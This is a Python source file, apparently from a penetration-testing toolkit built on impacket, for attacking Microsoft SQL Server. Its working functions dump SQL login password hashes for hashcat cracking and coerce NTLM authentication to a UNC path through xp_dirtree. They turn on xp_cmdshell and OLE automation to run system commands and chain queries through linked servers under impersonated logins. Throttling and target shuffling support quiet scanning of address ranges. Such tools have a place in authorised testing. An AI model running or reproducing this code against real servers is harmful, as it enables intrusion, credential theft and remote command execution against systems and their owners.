#!/usr/bin/python3

##########################################################
#                     Dependencies                       #
##########################################################

# PROTOCOL IMPLEMENTATION = TDS
from impacket import tds

# OUTPUT = Markdown/CSV
from Utils.OUTPUT import OutputUtil

# Others
import sys, os, traceback, time, random, binascii, string, datetime
import pandas as dp

def escape(value):
	return str(value).replace("'", "''")

def print_exception(e):
	print(f"[-] Got error: {str(e)}", file = sys.stderr)
	print('---------------------------------', file = sys.stderr)
	traceback.print_exc()
	print('---------------------------------', file = sys.stderr)

def print_warning(message):
	print(f"[!] {message}", file = sys.stderr)

def format_datetime(value, fmt = '%Y-%m-%dT%H:%M:%S'):
	if value is None:
		return ''
	if isinstance(value, (datetime.datetime, datetime.date)):
		return value.strftime(fmt)
	try:
		return dp.Timestamp(str(value)).strftime(fmt)
	except ValueError:
		return str(value)

##########################################################
#                     Query Service                      #
##########################################################

class SQLError(Exception):
	def __init__(self, messages):
		self.messages = messages
		super().__init__(' | '.join(messages))

def collectReplies(conn):
	errors = []
	infos = []
	def custom_error_logger(message):
		errors.append(str(message).strip())

	def custom_info_logger(message):
		infos.append(str(message).strip())

	conn.printReplies(error_logger = custom_error_logger, info_logger = custom_info_logger)

	return [e for e in errors if e != ''], [i for i in infos if i != '']

def normalize_value(value):
	# impacket renders NULL as the string 'NULL' and varbinary as ASCII hex
	if isinstance(value, str) and value == 'NULL':
		return None
	if isinstance(value, (bytes, bytearray)):
		text = bytes(value).decode('ascii', errors = 'ignore')
		if len(text) == len(value) and len(text) % 2 == 0 and all(c in string.hexdigits for c in text):
			return binascii.unhexlify(text)
		return bytes(value)
	return value

def normalize_row(row):
	return {k: normalize_value(v) for k, v in row.items()}

class Server:
	def __init__(self, hostname, impersonation_user = None, database = None):
		self.hostname = hostname
		self.impersonation_user = impersonation_user
		self.database = database

	def __str__(self):
		t = self.hostname
		if self.impersonation_user:
			t += f":{self.impersonation_user}"
		if self.database:
			t += f"@{self.database}"
		return t

def parse_server(entry):
	"""
	Parse one linked-server hop written as host[:login][@database].
	"""
	entry = entry.strip()
	database = None
	login = None
	if '@' in entry:
		entry, database = entry.rsplit('@', 1)
		if database == '':
			raise ValueError("Empty database in linked server entry")
	if ':' in entry:
		entry, login = entry.split(':', 1)
		if login == '':
			raise ValueError("Empty login in linked server entry")
	if entry == '':
		raise ValueError("Empty linked server name")
	return Server(entry, login, database)

def parse_chain(text):
	if text is None or text.strip() == '':
		return []
	return [parse_server(entry) for entry in text.split(',')]

def build_chain_query(chain, query):
	current = query
	for server in reversed(chain):
		prefix = ''
		if server.impersonation_user:
			prefix += f"EXECUTE AS LOGIN = '{escape(server.impersonation_user)}';"
		if server.database:
			prefix += f"USE [{server.database}];"
		current = f"EXEC ('{escape(prefix + current.rstrip().rstrip(';') + ';')}') AT [{server.hostname}]"
	return current

def build_openquery_chain(chain, query):
	"""
	Nest the query in SELECT * FROM OPENQUERY([hop], '...') for every hop.

	Used when a linked server refuses RPC. Only statements returning a rowset survive OPENQUERY.
	"""
	current = query.rstrip().rstrip(';') + ';'
	for server in reversed(chain):
		prefix = ''
		if server.impersonation_user:
			prefix += f"EXECUTE AS LOGIN = '{escape(server.impersonation_user)}';"
		if server.database:
			prefix += f"USE [{server.database}];"
		current = f"SELECT * FROM OPENQUERY([{server.hostname}], '{escape(prefix + current)}')"
	return current

RPC_KEYWORDS = ['CREATE LOGIN', 'ALTER LOGIN', 'DROP LOGIN', 'ALTER SERVER', 'SP_CONFIGURE', 'RECONFIGURE', 'XP_', 'CREATE ENDPOINT', 'SYS.SERVER_']

def requires_rpc(query):
	query = query.upper()
	return any(keyword in query for keyword in RPC_KEYWORDS)

def is_openquery_rowset_failure(error):
	message = str(error)
	return 'metadata' in message or 'no columns' in message or 'Deferred prepare' in message

def wrap_for_openquery(query):
	# OPENQUERY needs a rowset, report the row count or the error as one
	return f"""
DECLARE @result NVARCHAR(MAX);
DECLARE @error NVARCHAR(MAX);
BEGIN TRY
	{query.rstrip().rstrip(';')};
	SET @result = CAST(@@ROWCOUNT AS NVARCHAR(MAX));
	SET @error = NULL;
END TRY
BEGIN CATCH
	SET @result = NULL;
	SET @error = ERROR_MESSAGE();
END CATCH;
SELECT @result AS Result, @error AS Error;"""

class QueryService:
	def __init__(self, conn, server, chain = None):
		self.conn = conn
		self.server = server
		self.chain = chain or []
		self.use_rpc = True
		self.lastInfos = []
		self._legacy = None

	@property
	def execution_server(self):
		if self.chain != []:
			return self.chain[-1].hostname
		return self.server

	def prepare(self, query):
		if self.chain == []:
			return query
		if self.use_rpc:
			return build_chain_query(self.chain, query)
		if requires_rpc(query):
			raise SQLError(["This query requires RPC, which the linked server chain does not allow"])
		return build_openquery_chain(self.chain, query)

	def _execute(self, query):
		rows = self.conn.sql_query(self.prepare(query))
		errors, infos = collectReplies(self.conn)
		self.lastInfos = infos
		if errors != []:
			raise SQLError(errors)
		return [normalize_row(row) for row in (rows or [])]

	def _execute_wrapped(self, query):
		rows = self._execute(wrap_for_openquery(query))
		if rows != [] and rows[0].get('Error') is not None:
			raise SQLError([str(rows[0]['Error'])])
		return rows

	def execute(self, query):
		try:
			return self._execute(query)
		except SQLError as e:
			if self.chain == []:
				raise
			if self.use_rpc and 'not configured for RPC' in str(e):
				print_warning("RPC unavailable on the linked server chain, switching to OPENQUERY")
				self.use_rpc = False
				return self.execute(query)
			if not self.use_rpc and is_openquery_rowset_failure(e):
				return self._execute_wrapped(query)
			raise

	def execute_table(self, query):
		rows = self.execute(query)
		if rows != []:
			return dp.DataFrame(rows)
		columns = [c['Name'] for c in (getattr(self.conn, 'colMeta', None) or []) if 'Name' in c]
		return dp.DataFrame(columns = columns)

	def execute_table_fallback(self, query, fallback):
		try:
			return self.execute_table(query)
		except SQLError as e:
			print_warning(f"Query failed ({str(e)}), retrying with compatible query")
			return self.execute_table(fallback)

	def execute_scalar(self, query):
		rows = self.execute(query)
		if rows == [] or len(rows[0]) == 0:
			return None
		return list(rows[0].values())[0]

	def execute_non_query(self, query):
		if self.chain != [] and not self.use_rpc:
			rows = self._execute_wrapped(query)
			if rows != [] and rows[0].get('Result') is not None:
				return int(rows[0]['Result'])
			return -1

		rows = self.execute(query.rstrip().rstrip(';') + "; SELECT @@ROWCOUNT AS [RowsAffected]")
		for row in reversed(rows):
			if 'RowsAffected' in row and row['RowsAffected'] is not None:
				return int(row['RowsAffected'])
		return -1

	def is_legacy(self):
		# STRING_AGG appeared with SQL Server 2017 (major version 14)
		if self._legacy is None:
			try:
				major = self.execute_scalar("SELECT CAST(SERVERPROPERTY('ProductMajorVersion') AS INT);")
				self._legacy = major is None or int(major) < 14
			except (SQLError, ValueError):
				self._legacy = True
		return self._legacy

class UserService:
	def __init__(self, query_service):
		self.query_service = query_service
		self._admin = {}

	def get_info(self):
		rows = self.query_service.execute("SELECT USER_NAME() AS [UserName], SYSTEM_USER AS [SystemUser];")
		if rows == []:
			return None, None
		return rows[0]['UserName'], rows[0]['SystemUser']

	def is_member_of_role(self, role):
		value = self.query_service.execute_scalar(f"SELECT IS_SRVROLEMEMBER('{escape(role)}');")
		return value is not None and int(value) == 1

	def is_admin(self):
		server = self.query_service.execution_server
		if server not in self._admin:
			self._admin[server] = self.is_member_of_role('sysadmin')
		return self._admin[server]

	def can_impersonate(self, login):
		if self.is_admin():
			return True
		try:
			value = self.query_service.execute_scalar("SELECT 1 FROM master.sys.server_permissions a "
													"INNER JOIN master.sys.server_principals b ON a.grantor_principal_id = b.principal_id "
													f"WHERE a.permission_name = 'IMPERSONATE' AND b.name = '{escape(login)}';")
		except SQLError as e:
			print_warning(f"Error checking impersonation for {login}: {str(e)}")
			return False
		return value is not None and int(value) == 1

	def impersonate(self, login):
		self.query_service.execute(f"EXECUTE AS LOGIN = '{escape(login)}';")
		self._admin = {}

class DatabaseContext:
	def __init__(self, conn, server, chain = None, impersonate = None):
		self.conn = conn
		self.server = server
		self.query_service = QueryService(conn, server, chain)
		self.user_service = UserService(self.query_service)
		if impersonate:
			self.handle_impersonation(impersonate)
		if chain:
			print(f"[+] Executing through linked servers: {' -> '.join(str(s) for s in chain)}")

	def handle_impersonation(self, login):
		# EXECUTE AS LOGIN holds for the session only when sent on the initial connection, never through the chain
		initial = UserService(QueryService(self.conn, self.server))
		if not initial.can_impersonate(login):
			raise SQLError([f"Current login cannot impersonate {login} on {self.server}"])
		initial.impersonate(login)
		print(f"[+] Impersonating login {login}")

########################################################
#                     Connection                       #
########################################################

def connect_mssql(target, port, database, windowsAuth, username, password, domain, ntHash, aesKey, ccache, kdcHost):
	print_yellow("[*] Connecting to MSSQL server")
	print_yellow("---")
	print()

	# MSSQL Signing
	# 	Not supported by MSSQL protocol

	try:
		mssql = tds.MSSQL(target, port)
		mssql.connect()
		if aesKey != None or ccache != None:
			if ccache != None:
				os.environ['KRB5CCNAME'] = ccache
			hashes = None
			if ntHash != '':
				hashes = ":" + ntHash
			logged = mssql.kerberosLogin(database, username, password, domain, hashes, aesKey or '', kdcHost, None, None, ccache != None)
		else:
			if ntHash != '':
				hashes = ":" + ntHash
				logged = mssql.login(database, username, '', domain, hashes, windowsAuth)
			else:
				logged = mssql.login(database, username, password, domain, None, windowsAuth)

		if (logged):
			print("[+] Connected to MSSQL server")
			return mssql
		else:
			errors, _ = collectReplies(mssql)
			for error in errors:
				print(f"[-] {error}", file = sys.stderr)
			print("[-] Authentication failed", file = sys.stderr)
			return ''
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)
		return ''

def connect_context(target, args):
	conn = connect_mssql(target, args.port, args.database, args.windowsAuth, args.username, args.password, args.domain, args.ntHash, args.aesKey, args.ccache, args.kdcHost)
	if conn == '':
		return ''
	try:
		return DatabaseContext(conn, target, args.links, args.impersonate)
	except SQLError as e:
		print(f"[-] Cannot impersonate {args.impersonate}: {str(e)}", file = sys.stderr)
		conn.disconnect()
		return ''

#########################################################
#                     Enumeration                       #
#########################################################

INFO_QUERIES = {
	"Server Name": "SELECT @@SERVERNAME;",
	"Host Name": "SELECT SERVERPROPERTY('MachineName');",
	"Instance Name": "SELECT ISNULL(SERVERPROPERTY('InstanceName'), 'DEFAULT');",
	"Default Domain": "SELECT DEFAULT_DOMAIN();",
	"SQL Version": "SELECT SERVERPROPERTY('ProductVersion');",
	"SQL Major Version": "SELECT SERVERPROPERTY('ProductMajorVersion');",
	"SQL Edition": "SELECT SERVERPROPERTY('Edition');",
	"SQL Service Pack": "SELECT SERVERPROPERTY('ProductLevel');",
	"SQL Service Process ID": "SELECT SERVERPROPERTY('ProcessId');",
	"Authentication Mode": "SELECT CASE SERVERPROPERTY('IsIntegratedSecurityOnly') WHEN 1 THEN 'Windows Authentication only' ELSE 'Mixed mode (Windows + SQL)' END;",
	"Clustered Server": "SELECT CASE SERVERPROPERTY('IsClustered') WHEN 0 THEN 'No' ELSE 'Yes' END;",
	"Operating System Version": "SELECT TOP(1) windows_release + ISNULL(' ' + windows_service_pack_level, '') FROM master.sys.dm_os_windows_info;",
	"OS Architecture": "SELECT CASE WHEN CAST(SERVERPROPERTY('Edition') AS NVARCHAR(128)) LIKE '%64%' THEN '64-bit' ELSE '32-bit' END;",
	"Full Version String": "SELECT @@VERSION;",
}

def getInfo(ctx):
	print_yellow("[*] Getting MSSQL server information")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		results = {}
		for key, query in INFO_QUERIES.items():
			try:
				value = ctx.query_service.execute_scalar(query)
				result = 'NULL' if value is None else str(value)
				if key == "Full Version String":
					result = result.replace("\r\n", " ").replace("\n", " ").replace("\r", " ")
				results[key] = result
			except SQLError as e:
				print_warning(f"Failed to execute '{key}': {str(e)}")
				results[key] = f"ERROR: {str(e)}"
			maybeSleep()

		OutputUtil.print_dict(results, "Information", "Value")
		return results
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

def whoami(ctx):
	print_yellow("[*] Getting current MSSQL login and user")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		qs = ctx.query_service
		userName, systemUser = ctx.user_service.get_info()

		fixedRoles = []
		customRoles = []
		for row in qs.execute("SELECT name, is_fixed_role, ISNULL(IS_SRVROLEMEMBER(name), 0) AS is_member FROM sys.server_principals WHERE type = 'R' ORDER BY is_fixed_role DESC, name;"):
			if int(row['is_member'] or 0) != 1:
				continue
			if int(row['is_fixed_role'] or 0) == 1:
				fixedRoles.append(row['name'])
			else:
				customRoles.append(row['name'])

		dbRoles = [row['name'] for row in qs.execute("SELECT name, ISNULL(IS_ROLEMEMBER(name), 0) AS is_member FROM sys.database_principals WHERE type = 'R' ORDER BY name;") if int(row['is_member'] or 0) == 1]
		databases = [row['name'] for row in qs.execute("SELECT name FROM master.sys.databases WHERE HAS_DBACCESS(name) = 1;")]

		details = {
			"User Name": userName or '',
			"System User": systemUser or '',
			"Server Fixed Roles": ', '.join(fixedRoles),
			"Server Custom Roles": ', '.join(customRoles),
			"Database Roles": ', '.join(dbRoles),
			"Accessible Databases": ', '.join(databases),
		}
		OutputUtil.print_dict(details)
		return details
	except SQLError as e:
		print(f"[-] {str(e)}", file = sys.stderr)
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

def getDatabases(ctx):
	print_yellow("[*] Enumerating databases")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		table = ctx.query_service.execute_table("SELECT db.dbid, db.name, CAST(HAS_DBACCESS(db.name) AS BIT) AS Accessible, "
												"d.is_trustworthy_on AS Trustworthy, SUSER_SNAME(d.owner_sid) AS Owner, db.crdate, db.filename "
												"FROM master.dbo.sysdatabases db LEFT JOIN master.sys.databases d ON db.name = d.name "
												"ORDER BY db.name ASC, Accessible DESC, Trustworthy DESC, db.crdate DESC;")
		OutputUtil.print_table(table)
		return table
	except SQLError as e:
		print(f"[-] {str(e)}", file = sys.stderr)
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

LOGINS_QUERY = """
SELECT sp.name AS Name, sp.type_desc AS Type, sp.is_disabled, sp.create_date, sp.modify_date,
	STRING_AGG(sr.name, ', ') AS groups
FROM master.sys.server_principals sp
LEFT JOIN master.sys.server_role_members srm ON sp.principal_id = srm.member_principal_id
LEFT JOIN master.sys.server_principals sr ON srm.role_principal_id = sr.principal_id AND sr.type = 'R'
WHERE sp.type IN ('G','U','E','S','X') AND sp.name NOT LIKE '##%'
GROUP BY sp.name, sp.type_desc, sp.is_disabled, sp.create_date, sp.modify_date
ORDER BY sp.modify_date DESC;"""

LOGINS_QUERY_LEGACY = """
SELECT sp.name AS Name, sp.type_desc AS Type, sp.is_disabled, sp.create_date, sp.modify_date,
	STUFF((
		SELECT ', ' + sr.name
		FROM master.sys.server_role_members srm
		INNER JOIN master.sys.server_principals sr ON srm.role_principal_id = sr.principal_id AND sr.type = 'R'
		WHERE srm.member_principal_id = sp.principal_id
		FOR XML PATH(''), TYPE
	).value('.', 'NVARCHAR(MAX)'), 1, 2, '') AS groups
FROM master.sys.server_principals sp
WHERE sp.type IN ('G','U','E','S','X') AND sp.name NOT LIKE '##%'
ORDER BY sp.modify_date DESC;"""

def getLogins(ctx):
	print_yellow("[*] Enumerating server logins and database users")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		logins = ctx.query_service.execute_table_fallback(LOGINS_QUERY, LOGINS_QUERY_LEGACY)
		OutputUtil.print_table(logins)
		maybeSleep()

		users = ctx.query_service.execute_table("SELECT name AS username, create_date, modify_date, type_desc AS type, authentication_type_desc AS authentication_type "
												"FROM sys.database_principals WHERE type NOT IN ('R', 'A', 'X') AND sid IS NOT null AND name NOT LIKE '##%' "
												"ORDER BY modify_date DESC;")
		OutputUtil.print_table(users)
		return logins
	except SQLError as e:
		print(f"[-] {str(e)}", file = sys.stderr)
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

def haveRole(ctx, role):
	print_yellow(f"[*] Checking if current login has the {role} role")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		if ctx.user_service.is_member_of_role(role):
			print(f"[+] Current login is member of {role}")
			return True
		print(f"[-] Current login is not member of {role}", file = sys.stderr)
		return False
	except SQLError as e:
		print(f"[-] {str(e)}", file = sys.stderr)
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

def getRoleMembers(ctx, role):
	print_yellow(f"[*] Listing members of the {role} role")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		table = ctx.query_service.execute_table("SELECT r.name AS [role], m.name AS [member], m.type_desc AS [type] FROM sys.server_principals r "
												"INNER JOIN sys.server_role_members s ON s.role_principal_id = r.principal_id "
												"INNER JOIN sys.server_principals m ON m.principal_id = s.member_principal_id "
												f"WHERE r.name = '{escape(role)}'")
		OutputUtil.print_table(table)
		return table
	except SQLError as e:
		print(f"[-] {str(e)}", file = sys.stderr)
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

###########################################################
#                     Impersonation                       #
###########################################################

def enumImpersonation(ctx):
	print_yellow("[*] Enumerating logins that can be impersonated")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		logins = ctx.query_service.execute("SELECT name FROM sys.server_principals WHERE type_desc IN ('SQL_LOGIN', 'WINDOWS_LOGIN') AND name NOT LIKE '##%';")
		if logins == []:
			print("[-] No logins found", file = sys.stderr)
			return

		if ctx.user_service.is_admin():
			print(f"[+] Current login is sysadmin on {ctx.query_service.execution_server} and can impersonate anyone")

		results = {}
		for row in logins:
			results[row['name']] = "Yes" if ctx.user_service.can_impersonate(row['name']) else "No"
		OutputUtil.print_dict(results, "Logins", "Impersonation")
		return results
	except SQLError as e:
		print(f"[-] {str(e)}", file = sys.stderr)
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

###########################################################
#                     Linked Servers                      #
###########################################################

def enumLinks(ctx):
	print_yellow("[*] Enumerating linked servers")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		table = ctx.query_service.execute_table("SELECT srv.name AS [Linked Server], srv.product, srv.provider, srv.data_source, "
												"COALESCE(prin.name, 'N/A') AS [Local Login], ll.uses_self_credential AS [Is Self Mapping], ll.remote_name AS [Remote Login] "
												"FROM sys.servers srv LEFT JOIN sys.linked_logins ll ON srv.server_id = ll.server_id "
												"LEFT JOIN sys.server_principals prin ON ll.local_principal_id = prin.principal_id "
												"WHERE srv.is_linked = 1;")
		OutputUtil.print_table(table)
		return table
	except SQLError as e:
		print(f"[-] {str(e)}", file = sys.stderr)
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

####################################################
#                     Hashes                       #
####################################################

def getHashes(ctx):
	print_yellow("[*] Dumping SQL login password hashes")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		rows = ctx.query_service.execute("SELECT name AS LoginName, CONVERT(VARCHAR(MAX), password_hash, 1) AS PasswordHash "
										"FROM master.sys.sql_logins WHERE password_hash IS NOT NULL AND name NOT LIKE '##MS_%##' ORDER BY name;")
		if rows == []:
			print("[-] No password hashes readable", file = sys.stderr)
			return []

		lines = []
		modes = set()
		for row in rows:
			h = row['PasswordHash'] or ''
			if len(h) < 6:
				continue
			if h[:2].lower() == '0x':
				h = h[2:]
			if h[:4] == '0100':
				modes.add(131)
			elif h[:4] == '0200':
				modes.add(1731)
			lines.append(f"{row['LoginName']}:0x{h}")

		for line in lines:
			print(line)
		print()
		if 131 in modes:
			print("[+] Legacy hashes (0x0100) found: hashcat -m 131")
		if 1731 in modes:
			print("[+] SQL Server 2012+ hashes (0x0200) found: hashcat -m 1731")
		return lines
	except SQLError as e:
		print(f"[-] {str(e)}", file = sys.stderr)
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

####################################################
#                     Coerce                       #
####################################################

def coerce(ctx, uncPath):
	print_yellow("[*] Coerce service account for NTLM authentication")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		ctx.query_service.execute(f"EXEC master.dbo.xp_dirtree '{escape(uncPath)}'")
		print(f"[+] xp_dirtree triggered against {uncPath}")
	except SQLError as e:
		print(f"[-] {str(e)}", file = sys.stderr)
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

###################################################################
#                     Remote Code Execution                       #
###################################################################

def xp_cmdshell(ctx, cmd):
	print_yellow("[*] Executing command through xp_cmdshell")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		rows = ctx.query_service.execute("EXEC sp_configure 'show advanced options', 1;"
										"RECONFIGURE;"
										"EXEC sp_configure 'xp_cmdshell', 1;"
										"RECONFIGURE;"
										f"EXEC master..xp_cmdshell '{escape(cmd)}'")
		output = []
		for row in rows:
			line = row.get('output')
			if line is not None:
				output.append(line)
				print(line)
		return output
	except SQLError as e:
		print(f"[-] {str(e)}", file = sys.stderr)
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

def sp_OACreate_OAMethod(ctx, cmd):
	print_yellow("[*] Executing command through sp_oacreate and sp_oamethod")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		ctx.query_service.execute("EXEC sp_configure 'show advanced options', 1;"
								"RECONFIGURE;"
								"EXEC sp_configure 'Ole Automation Procedures', 1;"
								"RECONFIGURE;"
								f"DECLARE @myshell INT; EXEC sp_oacreate 'wscript.shell', @myshell OUTPUT; EXEC sp_oamethod @myshell, 'run', null, 'cmd /c {escape(cmd)}'")
		print("[+] Command sent through wscript.shell (no output)")
	except SQLError as e:
		print(f"[-] {str(e)}", file = sys.stderr)
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

#######################################################
#                     Raw Query                       #
#######################################################

DML_KEYWORDS = ('INSERT', 'UPDATE', 'DELETE', 'MERGE')

def runQuery(ctx, query):
	words = query.strip().split(None, 1)
	if words != [] and words[0].upper() in DML_KEYWORDS:
		affected = ctx.query_service.execute_non_query(query)
		print(f"[+] {affected} row(s) affected")
		return affected

	table = ctx.query_service.execute_table(query)
	for info in ctx.query_service.lastInfos:
		print("[+] " + info)
	if len(table.columns) == 0:
		print("[+] Query executed")
	else:
		OutputUtil.print_table(table)
	return table

def rawQuery(ctx, query):
	print_yellow("[*] Running raw MSSQL query")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		return runQuery(ctx, query)
	except SQLError as e:
		for message in e.messages:
			print(f"[-] {message}", file = sys.stderr)
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

##########################################################
#                     MSSQL Client                       #
##########################################################

def mssqlClient(ctx, username, domain, windowsAuth):
	print_yellow("[*] Starting MSSQL client")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		if windowsAuth:
			prompt = f"[{domain}/{username}@{ctx.query_service.execution_server}]$> "
		else:
			prompt = f"[MSSQL/{username}@{ctx.query_service.execution_server}]$> "

		while True:
			query = input(prompt)
			if query.strip() == "exit":
				break
			if query.strip() == "":
				continue
			try:
				runQuery(ctx, query)
			except SQLError as e:
				for message in e.messages:
					print(f"[-] {message}", file = sys.stderr)
			print()
	except (KeyboardInterrupt, EOFError):
		exit()
	except Exception as e:
		print_exception(e)

##################################################
#                     MAIN                       #
##################################################

def print_red(text):
	print("\033[91m" + text + "\033[0m")

def print_yellow(text):
	print("\033[93m" + text + "\033[0m")

def parseTarget(target):
	import ipaddress, re

	cidrRegex = r"^(?:[0-9]{1,3}\.){3}[0-9]{1,3}/[0-9]{1,2}$|^(?:[0-9a-fA-F]{1,4}:){7}[0-9a-fA-F]{1,4}/[0-9]{1,3}$"

	res = []

	tmp = []
	if os.path.isfile(target):
		with open(target, "r") as f:
			tmp = [line.strip() for line in f.readlines() if line.strip() != '']
	elif target.find(",") != -1:
		tmp = [entry.strip() for entry in target.split(",") if entry.strip() != '']
	else:
		tmp = [target]

	for entry in tmp:
		if re.match(cidrRegex, entry):
			network = ipaddress.ip_network(entry, strict = False)
			for ip in network:
				res.append(str(ip))
		else:
			res.append(entry)

	return res

THROTTLE = None
THROTTLE_DEEP = None
def maybeSleep(deep = True, inAction = False):
	if deep:
		if THROTTLE_DEEP != None:
			print("\n--- SLEEPING ---\n")
			time.sleep(THROTTLE_DEEP)
	else:
		if THROTTLE != None and THROTTLE_DEEP == None:
			print("--- SLEEPING ---\n")
			time.sleep(THROTTLE)
	if inAction and THROTTLE_DEEP == None:
		print()

def runTargets(args, actions):
	"""
	Run (function, params) actions against every target, connecting lazily once per target.
	"""
	global THROTTLE, THROTTLE_DEEP

	if actions == []:
		print("[-] No action requested", file = sys.stderr)
		return
	if args.target == None:
		print("[-] Target required (-t/--target)", file = sys.stderr)
		return

	targets = parseTarget(args.target)
	if args.shuffle:
		random.shuffle(targets)
	if args.throttle != None:
		THROTTLE = args.throttle
	if args.throttleDeep != None:
		THROTTLE_DEEP = args.throttleDeep

	firstTarget = True

	for target in targets:
		if not firstTarget:
			maybeSleep(deep = False)
		else:
			firstTarget = False

		print_red("|---------------------------")
		print_red(f"| {target}")
		print_red("|---------------------------")
		print()

		ctx = None
		for action, params in actions:
			if ctx == None:
				ctx = connect_context(target, args)
				maybeSleep(inAction = True)
			action(ctx, *params)
			maybeSleep(inAction = True)

		if ctx != None and ctx != '':
			try:
				ctx.conn.disconnect()
			except OSError:
				pass

ROLES = ["sysadmin", "serveradmin", "dbcreator", "setupadmin", "bulkadmin", "securityadmin", "diskadmin", "public", "processadmin"]

def add_arguments(parser):
	infos_group = parser.add_argument_group('[[ Enumeration ]]')
	infos_group.add_argument("--info", help = "Get server, instance, version and OS information", action = "store_true")
	infos_group.add_argument("--whoami", help = "Get current login, user, roles and accessible databases", action = "store_true")
	infos_group.add_argument("--databases", help = "List databases with trustworthy flag and owner", action = "store_true")
	infos_group.add_argument("--logins", help = "List server logins with their server roles and database users", action = "store_true")
	infos_group.add_argument("--haveRole", help = "Check if current login have the provided role", choices = ROLES)
	infos_group.add_argument("--roleMembers", help = "List logins that have the provided role", choices = ROLES)
	infos_group.add_argument("--hashes", help = "Dump SQL login password hashes in hashcat format", action = "store_true")

	coerce_group = parser.add_argument_group('[[ Coerce ]]')
	coerce_group.add_argument("--coerce", metavar = "UNCPATH", help = "UNC path to coerce NTLM authentication with xp_dirtree")

	impersonate_group = parser.add_argument_group('[[ Impersonate ]]')
	impersonate_group.add_argument("--impersonation", help = "Enumerate logins that can be impersonated", action = "store_true")

	links_group = parser.add_argument_group('[[ Linked Servers ]]')
	links_group.add_argument("--linkedServers", help = "Enumerate linked servers and login mappings", action = "store_true")

	rce_group = parser.add_argument_group('[[ Remote Code Execution ]]')
	rce_group.add_argument("--xpCmdshell", metavar = "CMD", help = "System command to execute through xp_cmdshell")
	rce_group.add_argument("--oleCmd", metavar = "CMD", help = "System command to execute through sp_oacreate and sp_oamethod [NO OUTPUT]")

	rawquery_group = parser.add_argument_group('[[ Raw Query ]]')
	rawquery_group.add_argument("--rawQuery", help = "Raw MSSQL query to execute")

	client_group = parser.add_argument_group('[[ Client ]]')
	client_group.add_argument("--client", help = "Start an MSSQL client for raw queries", action = "store_true")

def handle_arguments(args):
	actions = []

	# Enumeration
	if args.info:
		actions.append((getInfo, []))
	if args.whoami:
		actions.append((whoami, []))
	if args.databases:
		actions.append((getDatabases, []))
	if args.logins:
		actions.append((getLogins, []))
	if args.haveRole != None:
		actions.append((haveRole, [args.haveRole]))
	if args.roleMembers != None:
		actions.append((getRoleMembers, [args.roleMembers]))
	if args.hashes:
		actions.append((getHashes, []))

	# Coerce
	if args.coerce != None:
		actions.append((coerce, [args.coerce]))

	# Impersonate
	if args.impersonation:
		actions.append((enumImpersonation, []))

	# Linked Servers
	if args.linkedServers:
		actions.append((enumLinks, []))

	# Remote Code Execution
	if args.xpCmdshell != None:
		actions.append((xp_cmdshell, [args.xpCmdshell]))
	if args.oleCmd != None:
		actions.append((sp_OACreate_OAMethod, [args.oleCmd]))

	# Raw Query
	if args.rawQuery != None:
		actions.append((rawQuery, [args.rawQuery]))

	# Client
	if args.client:
		actions.append((mssqlClient, [args.username, args.domain, args.windowsAuth]))

	runTargets(args, actions)
